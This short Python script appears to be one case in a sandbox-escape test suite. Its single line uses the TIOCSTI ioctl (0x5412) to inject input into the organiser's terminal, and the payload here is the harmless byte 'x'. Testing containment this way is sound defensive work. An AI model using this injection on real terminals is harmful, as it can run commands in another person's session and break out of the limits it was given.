"""It types a command into the organiser's terminal."""

import fcntl
import os

from _attack import AIMS, attack

attack(lambda: fcntl.ioctl(os.open(AIMS["terminal"], os.O_RDWR | os.O_NOCTTY), 0x5412, b"x"))  # TIOCSTI
